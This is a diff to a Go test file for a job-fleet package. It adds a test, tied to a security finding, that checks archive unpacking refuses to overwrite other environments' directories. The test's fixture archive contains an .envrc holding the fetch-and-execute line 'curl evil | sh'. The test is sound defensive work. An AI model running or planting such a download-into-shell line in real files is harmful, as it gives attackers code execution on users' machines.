@@ -112,7 +112,7 @@ func TestSynthOnFleetIsTheLocalRun(t *testing.T) {
 	want := tree(t, ref)
 
 	local := t.TempDir()
-	if err := fleet.RunSynthLocal(context.Background(), sources, specs, refs, 2, fleet.CreateSynthOutput(local), nil); err != nil {
+	if err := fleet.RunSynthLocal(context.Background(), sources, specs, refs, 2, synthOutput(t, local, refs), nil); err != nil {
 		t.Fatal(err)
 	}
 	sameTree(t, "in this process", tree(t, local), want)
@@ -126,7 +126,7 @@ func TestSynthOnFleetIsTheLocalRun(t *testing.T) {
 	defer cancel()
 	done := make(chan error, 1)
 	go func() {
-		done <- (&fleet.Driver{NC: connect(t, url), Log: t.Logf}).RunSynth(ctx, sources, specs, refs, fleet.CreateSynthOutput(onFleet))
+		done <- (&fleet.Driver{NC: connect(t, url), Log: t.Logf}).RunSynth(ctx, sources, specs, refs, synthOutput(t, onFleet, refs))
 	}()
 	js, _ := jetstream.New(connect(t, url))
 	for {
@@ -204,12 +204,67 @@ func TestSynthOutputRefusesHostileArchives(t *testing.T) {
 		}
 		tw.Close()
 		dir := t.TempDir()
-		out := fleet.CreateSynthOutput(dir)
+		out := synthOutput(t, dir, []fleet.GroupRef{{Index: 0, Env: "env"}})
 		if err := out.WriteGroup(buf.Bytes()); !errors.Is(err, &fleet.Error{Code: fleet.CodeLost}) {
 			t.Errorf("%s: %v, want a result_lost error", what, err)
 		}
 		if left, _ := os.ReadDir(dir); len(left) != 0 {
 			t.Errorf("%s: left %v", what, left)
 		}
+	}
+}
+
+func synthOutput(t testing.TB, dir string, refs []fleet.GroupRef) fleet.Output {
+	t.Helper()
+	out, err := fleet.CreateSynthOutput(dir, refs)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return out
+}
+
+// Issue 37, finding 4: an environment's archive unpacks only under its own
+// job's name, and never replaces a directory this run did not write: an
+// archive for "hr" that holds "payroll" (an unrelated environment in the
+// output, with its files and a .envrc) is refused and payroll is intact;
+// an output that already has hr is refused before any job runs, and an hr
+// that appears while the run goes is not replaced.
+func TestSynthOutputWritesOnlyItsOwnNewDirectory(t *testing.T) {
+	archive := func(top string) []byte {
+		var buf bytes.Buffer
+		tw := tar.NewWriter(&buf)
+		tw.WriteHeader(&tar.Header{Name: top + "/", Typeflag: tar.TypeDir, Mode: 0o755})
+		for name, body := range map[string]string{".envrc": "curl evil | sh", "env.yaml": "name: " + top, "tools/new.go": "package tools"} {
+			tw.WriteHeader(&tar.Header{Name: top + "/" + name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(body))})
+			tw.Write([]byte(body))
+		}
+		tw.Close()
+		return buf.Bytes()
+	}
+	refs := []fleet.GroupRef{{Index: 0, Env: "hr"}}
+	dir := t.TempDir()
+	os.MkdirAll(filepath.Join(dir, "payroll"), 0o755)
+	os.WriteFile(filepath.Join(dir, "payroll", "env.yaml"), []byte("name: payroll"), 0o644)
+	out := synthOutput(t, dir, refs)
+	if err := out.WriteGroup(archive("payroll")); !errors.Is(err, &fleet.Error{Code: fleet.CodeLost}) {
+		t.Fatalf("an archive of another environment: %v, want result_lost", err)
+	}
+	if left, _ := os.ReadDir(filepath.Join(dir, "payroll")); len(left) != 1 {
+		t.Fatalf("payroll was touched: %v", left)
+	}
+	if _, err := fleet.CreateSynthOutput(dir, []fleet.GroupRef{{Index: 0, Env: "payroll"}}); !errors.Is(err, &fleet.Error{Code: fleet.CodeBadInput}) {
+		t.Fatalf("an output that has the environment: %v, want bad_input", err)
+	}
+	os.MkdirAll(filepath.Join(dir, "hr"), 0o755) // appears while the run goes
+	os.WriteFile(filepath.Join(dir, "hr", "mine.txt"), []byte("mine"), 0o644)
+	if err := out.WriteGroup(archive("hr")); !errors.Is(err, &fleet.Error{Code: fleet.CodeLost}) {
+		t.Fatalf("over a directory the run did not write: %v, want result_lost", err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "hr", "mine.txt")); string(b) != "mine" {
+		t.Fatal("hr was replaced")
+	}
+	os.RemoveAll(filepath.Join(dir, "hr"))
+	if err := out.WriteGroup(archive("hr")); err != nil {
+		t.Fatal(err)
 	}
 }
